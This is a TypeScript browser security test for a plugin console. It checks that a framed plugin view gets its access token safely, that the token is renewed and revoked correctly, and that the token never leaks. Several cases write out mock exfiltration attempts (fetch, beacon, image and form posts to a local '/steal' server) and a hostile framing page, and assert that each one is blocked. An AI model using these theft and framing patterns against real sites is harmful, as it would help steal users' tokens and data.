/**
 * A view in a real browser (issue 16): Debian's chromium driven by playwright-core, against
 * `startControlPlane` as `openfief up` runs it with the signed demo, on four loopback origins —
 * the console (127.0.0.1), the plugin proxy and the gateway (two ports of localhost, the other
 * site), and an "exfiltration" server (127.0.0.1, another port) — plus a foreign page that tries
 * to frame them. The owner signs in and follows ledger-view's link to its view: the console
 * frames it, mints its PluginToken and hands it over with a pinned target; the view lists the plugins through
 * the gateway; everything the CSP, the sandbox and the gateway must refuse is refused (a form
 * post is refused twice: by the frame's sandbox, and by form-action on the view's page opened on
 * its own, where only the CSP stands in the way); the token is renewed
 * before 80 % of its life (15 s in this test: renewed at 10 s, two seconds before 80 %, so a loaded machine does not miss it), and once the grant is revoked the next mint fails and
 * the view is told. The token never reaches storage, a URL or a DOM. Screenshots are kept in
 * test-artifacts/views/.
 *
 * The browser is instrumented by an init script in every frame: it records CSP violations and the
 * protocol's messages as they arrive (their type, sender and the token's `iat`/`exp`), and, on
 * the console's page only, the target origin of every message the console posts to a frame.
 */
import { mkdirSync, mkdtempSync, rmSync } from "node:fs";
import { createServer } from "node:http";
import type { Server } from "node:http";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { Writable } from "node:stream";
import { fileURLToPath } from "node:url";
import type { Frame, Page, Request } from "playwright-core";
import { pino } from "pino";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { applyDemoFolder, deleteResource, demoSettings, OWNER_CLI, signInLink } from "../../src/app/index.js";
import { startControlPlane } from "../../src/compose/index.js";
import type { ControlPlane, RunningViews } from "../../src/compose/index.js";
import { consoleCsp } from "../../src/server/index.js";
import { recentDecisions } from "../../src/views/index.js";
import { launchChromium } from "../support/chromium.js";
import type { TestBrowser } from "../support/chromium.js";

const ARTIFACTS = fileURLToPath(new URL("../../test-artifacts/views/", import.meta.url));
/** A PluginToken's life here: short, so that a refresh and a failed one happen within the test. */
const TTL_SECONDS = 15;
const PLUGINS = "/clusters/embedded/apis/openfief.io/v1alpha1/namespaces/openfief/plugins";

/** What the init script records in a frame (`window.__rec`). */
interface Recorded {
  csp: Array<{ directive: string; blocked: string }>;
  messages: Array<{ type: string; origin: string; fromParent: boolean; at: number; iat: number | null; exp: number | null; reason: string | null; tail: string | null }>;
  posts: Array<{ type: string; target: string }>;
}

/** Records in every frame before its own scripts run; spies on the console's posts to its frames. */
function instrument(consoleOrigin: string): string {
  return `(() => {
  const rec = { csp: [], messages: [], posts: [] };
  Object.defineProperty(window, "__rec", { value: rec });
  document.addEventListener("securitypolicyviolation", (e) => rec.csp.push({ directive: e.effectiveDirective, blocked: e.blockedURI }));
  const claims = (t) => { try { const p = t.split(".")[1]; return JSON.parse(atob(p.replace(/-/g, "+").replace(/_/g, "/"))); } catch { return null; } };
  window.addEventListener("message", (e) => {
    const d = e.data;
    if (typeof d !== "object" || d === null || typeof d.type !== "string") return;
    const c = typeof d.token === "string" ? claims(d.token) : null;
    rec.messages.push({ type: d.type, origin: e.origin, fromParent: e.source === window.parent, at: Date.now(), iat: c?.iat ?? null, exp: c?.exp ?? null, reason: typeof d.reason === "string" ? d.reason : null, tail: typeof d.token === "string" ? d.token.slice(-16) : null });
  }, true);
  if (location.origin !== ${JSON.stringify(consoleOrigin)}) return;
  // The console posts through iframe.contentWindow: hand it a recording stand-in, and name the
  // stand-in as the source of the frame's messages, so the console's own checks still hold.
  const real = Object.getOwnPropertyDescriptor(HTMLIFrameElement.prototype, "contentWindow").get;
  const source = Object.getOwnPropertyDescriptor(MessageEvent.prototype, "source").get;
  const standIns = new WeakMap();
  const standIn = (w) => {
    if (w === null) return null;
    if (!standIns.has(w)) standIns.set(w, { postMessage: (m, target) => { rec.posts.push({ type: m?.type, target }); w.postMessage(m, target); } });
    return standIns.get(w);
  };
  Object.defineProperty(HTMLIFrameElement.prototype, "contentWindow", { configurable: true, get() { return standIn(real.call(this)); } });
  Object.defineProperty(MessageEvent.prototype, "source", { configurable: true, get() { const s = source.call(this); return s === null || s === window ? s : standIn(s); } });
})();`;
}

/** A server on 127.0.0.1 that records every request it gets. */
async function recordingServer(answer: (path: string) => string): Promise<{ server: Server; origin: string; seen: string[] }> {
  const seen: string[] = [];
  const server = createServer((req, res) => {
    seen.push(`${req.method ?? "?"} ${req.url ?? ""}`);
    res.writeHead(200, { "content-type": "text/html; charset=utf-8" });
    res.end(answer(req.url ?? "/"));
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  return { server, origin: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, seen };
}

const close = (s: Server) => new Promise<void>((resolve) => s.close(() => resolve()));

let dir: string;
let cp: ControlPlane;
let views: RunningViews;
let consoleUrl: string;
let exfil: Awaited<ReturnType<typeof recordingServer>>;
let foreign: Awaited<ReturnType<typeof recordingServer>>;
let browser: TestBrowser;
let page: Page;
let view: Frame;
let viewSrc: string;
/** The views' access lines and every PluginToken the console was given. */
const lines: Array<Record<string, unknown>> = [];
const tokens: string[] = [];
const requests: Request[] = [];
/** What the pages reported as errors (shown when something fails). */
const problems: string[] = [];

const rec = (f: Frame | Page): Promise<Recorded> => f.evaluate("window.__rec") as Promise<Recorded>;
const shot = (p: Page, name: string) => p.screenshot({ path: join(ARTIFACTS, `${name}.png`), fullPage: true });

/**
 * Waits until `condition` (a JavaScript expression) holds in a frame. Evaluated as a promise, not
 * with waitForFunction: that evaluates a string with eval, which the view's CSP refuses.
 */
async function until(f: Frame | Page, condition: string, timeoutMs = 10_000): Promise<void> {
  await f.evaluate(`new Promise((resolve, reject) => {
    const end = Date.now() + ${timeoutMs};
    const check = () => (${condition}) ? resolve(true) : Date.now() > end ? reject(new Error("no sign of: " + ${JSON.stringify(condition)})) : setTimeout(check, 20);
    check();
  })`);
}

beforeAll(async () => {
  mkdirSync(ARTIFACTS, { recursive: true });
  dir = mkdtempSync(join(tmpdir(), "openfief-views-browser-"));
  exfil = await recordingServer(() => "stolen");
  const sink = new Writable({ write(chunk: Buffer, _e, done) {
    for (const l of chunk.toString().split("\n")) if (l.includes("views: answered")) lines.push(JSON.parse(l) as Record<string, unknown>);
    done();
  } });
  cp = await startControlPlane({
    dataDir: dir, logger: pino({ level: "debug" }, sink), egress: null, host: null, intervalMs: 200,
    settings: { ...demoSettings(), pluginProxyOrigin: "http://localhost:0", gatewayOrigin: "http://localhost:0" },
    server: { host: "127.0.0.1", port: 0 }, views: { ttlSeconds: TTL_SECONDS },
  });
  if (cp.views === null || cp.server === null) throw new Error("no views or no console");
  views = cp.views;
  consoleUrl = cp.server.url;
  await applyDemoFolder(cp.runtime.store, "plugins");
  await cp.pass();
  const frame = await views.frame("ledger-view");
  viewSrc = frame?.src ?? "";
  foreign = await recordingServer(() => `<!doctype html><title>Someone else's page</title>
<iframe name="console" src="${consoleUrl}/plugins/ledger-view"></iframe><iframe name="view" src="${viewSrc}"></iframe>`);
  browser = await launchChromium({ viewport: { width: 1280, height: 1000 } });
  await browser.context.addInitScript(instrument(consoleUrl));
  browser.context.on("request", (r) => requests.push(r));
  browser.context.on("response", (r) => {
    if (r.url().endsWith("/api/v1/plugin-tokens") && r.ok()) void r.json().then((b: { token: string }) => tokens.push(b.token), () => undefined);
  });
  page = await browser.context.newPage();
  page.on("console", (m) => { if (m.type() === "error" || m.type() === "warning") problems.push(`console ${m.type()}: ${m.text()}`); });
  page.on("pageerror", (e) => problems.push(`page error: ${e.message}`));
  await page.goto((await signInLink(cp.sessions, consoleUrl, "alice", "owner")).url);
  // From the plugins page, as a person would: ledger-view's row links to its view.
  await page.locator('a[href="/plugins/ledger-view#view"]').click();
  await page.waitForURL(`${consoleUrl}/plugins/ledger-view#view`);
  await page.waitForLoadState("load");
  const found = page.frames().find((f) => f.url() === viewSrc);
  if (found === undefined) throw new Error(`the console framed no ${viewSrc}: ${page.frames().map((f) => f.url()).join(", ")}`);
  view = found;
  await until(view, `/plugin\\(s\\), read through the gateway/.test(document.getElementById("status")?.textContent ?? "")`, 15_000).catch(async (err: unknown) => {
    await shot(page, "console-view-failed");
    const said = await view.evaluate(`document.getElementById("status")?.textContent`).catch(() => "?");
    throw new Error(`the view did not list the plugins (it says: ${said}; the console: ${JSON.stringify(await rec(page))}; the view: ${JSON.stringify(await rec(view))}; ${problems.join("; ")})`, { cause: err });
  });
}, 60_000);

afterAll(async () => {
  await browser?.close();
  await cp?.stop();
  if (exfil !== undefined) await close(exfil.server);
  if (foreign !== undefined) await close(foreign.server);
  if (dir !== undefined) rmSync(dir, { recursive: true, force: true });
});

describe("a view in the console", () => {
  it("runs on four origins, the console's CSP framing the plugin proxy only", async () => {
    const origins = new Set([new URL(consoleUrl).origin, views.pluginProxyOrigin, views.gatewayOrigin, exfil.origin]);
    expect(origins.size).toBe(4);
    expect(new URL(views.pluginProxyOrigin).hostname).toBe("localhost");
    const res = await page.request.get(`${consoleUrl}/plugins/ledger-view`);
    expect(res.headers()["content-security-policy"]).toBe(consoleCsp(views.pluginProxyOrigin));
    expect(res.headers()["content-security-policy"]).toMatch(new RegExp(`; frame-src ${views.pluginProxyOrigin}$`));
    expect(await page.locator("iframe[data-openfief-view]").getAttribute("sandbox")).toBe("allow-scripts allow-same-origin");
    // The console framed the view and ran its script without one violation of its own CSP; nor did the view.
    expect((await rec(page)).csp).toEqual([]);
    expect((await rec(view)).csp).toEqual([]);
    await shot(page, "console-view");
  });

  it("delivers the token to the view with the plugin proxy's origin pinned as the target", async () => {
    const mine = await rec(page);
    expect(mine.posts.length).toBeGreaterThan(0);
    expect(new Set(mine.posts.map((p) => p.target))).toEqual(new Set([views.pluginProxyOrigin]));
    expect(mine.posts[0]?.type).toBe("openfief:init");
    const got = await rec(view);
    const init = got.messages.find((m) => m.type === "openfief:init");
    expect(init).toMatchObject({ origin: new URL(consoleUrl).origin, fromParent: true });
    expect(tokens.map((t) => t.slice(-16))).toContain(init?.tail);
    // The view answered with plugin:ready to the console, whose page saw it from the frame.
    expect(mine.messages).toContainEqual(expect.objectContaining({ type: "plugin:ready", origin: views.pluginProxyOrigin }));
  });

  it("lists the plugins through the gateway: one preflight, then the request with the token in Authorization", async () => {
    const rows = await Promise.all((await view.locator("tbody tr").all()).map((tr) => tr.getAttribute("data-plugin")));
    expect(rows).toEqual(["ecb-fx", "ledger-view", "nbp-fx"]);
    const list = lines.filter((l) => l["listener"] === "gateway" && l["target"] === PLUGINS).map((l) => `${String(l["method"])} ${String(l["status"])}`);
    expect(list).toEqual(["OPTIONS 204", "GET 200"]);
    const get = requests.find((r) => r.method() === "GET" && r.url() === views.gatewayOrigin + PLUGINS);
    const headers = await get?.allHeaders();
    expect(headers?.["authorization"]).toMatch(/^Bearer /);
    expect(tokens).toContain(headers?.["authorization"]?.slice("Bearer ".length));
    expect(headers?.["cookie"]).toBeUndefined();
    const [allowed] = (await recentDecisions(cp.runtime.store, "ledger-view", 50)).filter((d) => d.data.decision === "allow" && d.data.attributes?.kind === "resource" && d.data.attributes.resource === "plugins");
    expect(allowed?.data).toMatchObject({ user: "alice", installationName: "ledger-view", decision: "allow" });
  });

  it("gets 403 for a request outside the plugin's rules, and the log records it", async () => {
    // As a string: the test's own transform would rewrite an import() in a function.
    const status = await view.evaluate(`import("/plugins/sdk/0.1.0/sdk.js").then((sdk) => sdk.kube("/apis/openfief.io/v1alpha1/namespaces/openfief/events")).then((r) => r.status)`);
    expect(status).toBe(403);
    const [last] = await recentDecisions(cp.runtime.store, "ledger-view", 1);
    expect(last?.data).toMatchObject({ decision: "deny", gate: "plugin", user: "alice", attributes: { resource: "events", verb: "list" } });
  });

  it("blocks an inline script", async () => {
    const ran = await view.evaluate(`(async () => {
      const s = document.createElement("script");
      s.textContent = "window.__inlineRan = true";
      document.body.append(s);
      await new Promise((r) => setTimeout(r, 0));
      return window.__inlineRan === true;
    })()`);
    expect(ran).toBe(false);
    expect((await rec(view)).csp).toContainEqual({ directive: "script-src-elem", blocked: "inline" });
  });

  it("blocks a fetch, a beacon and an image to the third origin by the CSP, and that server sees no request", async () => {
    const outcome = await view.evaluate(`(async (to) => {
      const fetched = await fetch(to + "/steal?via=fetch", { mode: "no-cors" }).then(() => "sent", (e) => e.name);
      navigator.sendBeacon(to + "/steal?via=beacon", "x");
      const img = await new Promise((resolve) => {
        const i = new Image();
        i.onload = () => resolve("loaded");
        i.onerror = () => resolve("error");
        i.src = to + "/steal?via=img";
      });
      return { fetched, img };
    })(${JSON.stringify(exfil.origin)})`);
    expect(outcome).toEqual({ fetched: "TypeError", img: "error" });
    // The SDK refuses before the browser would: it sends the token to the gateway and the plugin proxy only.
    const viaSdk = await view.evaluate(`import("/plugins/sdk/0.1.0/sdk.js").then((sdk) => sdk.fetch(${JSON.stringify(exfil.origin + "/steal?via=sdk")})).then(() => "sent", (e) => e.name)`);
    expect(viaSdk).toBe("TypeError");
    await until(view, `window.__rec.csp.filter((c) => c.blocked.startsWith(${JSON.stringify(exfil.origin)})).length >= 3`);
    const blocked = (await rec(view)).csp.filter((c) => c.blocked.startsWith(exfil.origin)).map((c) => c.directive).sort();
    expect(blocked).toEqual(["connect-src", "connect-src", "img-src"]);
    expect(exfil.seen).toEqual([]);
  });

  it("refuses a form post from the framed view (its sandbox allows no forms), and that server sees no request", async () => {
    const refused = page.waitForEvent("console", (m) => /Blocked form submission/.test(m.text()));
    await view.evaluate(`(() => {
      const f = document.createElement("form");
      f.method = "post";
      f.action = ${JSON.stringify(exfil.origin + "/steal?via=framed-form")};
      document.body.append(f);
      f.submit();
    })()`);
    expect((await refused).text()).toMatch(/sandboxed and the 'allow-forms' permission is not set/);
    expect(view.url()).toBe(viewSrc);
    expect(exfil.seen).toEqual([]);
  });

  it("blocks a form post to the third origin by form-action", async () => {
    // Opened on its own, outside the console's sandbox (which allows no forms): the CSP alone refuses it.
    const alone = await browser.context.newPage();
    try {
      await alone.goto(viewSrc);
      await alone.evaluate(`(() => {
        const f = document.createElement("form");
        f.method = "post";
        f.action = ${JSON.stringify(exfil.origin + "/steal?via=form")};
        const i = document.createElement("input");
        i.name = "t";
        i.value = "secret";
        f.append(i);
        document.body.append(f);
        f.submit();
      })()`);
      await until(alone, `window.__rec.csp.some((c) => c.directive === "form-action")`);
      expect((await rec(alone)).csp).toContainEqual({ directive: "form-action", blocked: `${exfil.origin}/steal?via=form` });
      expect(alone.url()).toBe(viewSrc);
      expect(exfil.seen).toEqual([]);
    } finally {
      await alone.close();
    }
  });

  it("refuses to be framed by a foreign page: neither the console's page nor the view's renders there", async () => {
    const other = await browser.context.newPage();
    try {
      await other.goto(foreign.origin);
      await other.waitForLoadState("load");
      const framed = other.frames().filter((f) => f !== other.mainFrame());
      expect(framed).toHaveLength(2);
      for (const f of framed) {
        // A refused frame holds Chromium's error page, not the document that was asked for.
        expect(f.url()).toBe("chrome-error://chromewebdata/");
        expect(await f.locator("#plugins, #live").count()).toBe(0);
      }
      await shot(other, "foreign-frame");
    } finally {
      await other.close();
    }
  });

  it("renews the token before 80 % of its life, and the view keeps its one load", async () => {
    await until(view, `window.__rec.messages.some((m) => m.type === "openfief:token-refreshed")`, TTL_SECONDS * 1000);
    const got = (await rec(view)).messages;
    const init = got.find((m) => m.type === "openfief:init");
    const refreshed = got.find((m) => m.type === "openfief:token-refreshed");
    if (init?.iat == null || init.exp == null || refreshed?.iat == null) throw new Error("no init or no refresh recorded");
    expect(init.exp - init.iat).toBe(TTL_SECONDS);
    expect(refreshed.at).toBeLessThan((init.iat + 0.8 * (init.exp - init.iat)) * 1000);
    expect(refreshed.iat).toBeGreaterThan(init.iat);
    expect(refreshed).toMatchObject({ origin: new URL(consoleUrl).origin, fromParent: true });
    // htmx keeps the page current around the view, never reloading it: one init only.
    expect((await rec(page)).posts.filter((p) => p.type === "openfief:init")).toHaveLength(1);
    await until(view, `/Token renewed 1 time/.test(document.getElementById("session")?.textContent ?? "")`);
  });

  it("fails the next mint once the grant is revoked, and tells the view", async () => {
    await deleteResource(cp.runtime.store, "grant", "ledger-view", OWNER_CLI);
    await cp.pass();
    await until(view, `window.__rec.messages.some((m) => m.type === "openfief:auth-failed")`, TTL_SECONDS * 1000);
    const failed = (await rec(view)).messages.find((m) => m.type === "openfief:auth-failed");
    expect(failed).toMatchObject({ origin: new URL(consoleUrl).origin, fromParent: true, reason: "view_not_running" });
    await until(view, `document.getElementById("status")?.classList.contains("failed") === true`);
    await page.waitForSelector("#view-status[data-state=failed]");
    await shot(page, "console-view-revoked");
  });

  it("never puts a token in storage, a URL or a page's DOM", async () => {
    expect(tokens.length).toBeGreaterThanOrEqual(2);
    // A cross-site frame may be denied storage outright (Chromium blocks third-party storage); then nothing is in it either.
    const read = (f: Frame) => f.evaluate(`(async () => {
      const attempt = async (get) => {
        try {
          return JSON.stringify(await get());
        } catch (e) {
          return "denied: " + e.name;
        }
      };
      const stores = [
        await attempt(() => ({ ...localStorage })), await attempt(() => ({ ...sessionStorage })), await attempt(() => document.cookie),
        await attempt(() => indexedDB.databases()), await attempt(() => ("caches" in window ? caches.keys() : [])),
      ];
      return [...stores, location.href, document.documentElement.outerHTML, ...performance.getEntriesByType("resource").map((e) => e.name)].join("\\n");
    })()`) as Promise<string>;
    const seen = [await read(page.mainFrame()), await read(view), ...requests.map((r) => r.url()), ...page.frames().map((f) => f.url()), JSON.stringify(await browser.context.cookies())].join("\n");
    expect(seen).toContain("ledger-view");
    for (const t of tokens) {
      expect(seen).not.toContain(t);
      // Nor its signature alone, which no other string shares.
      expect(seen).not.toContain(t.split(".")[2]);
    }
  });
});
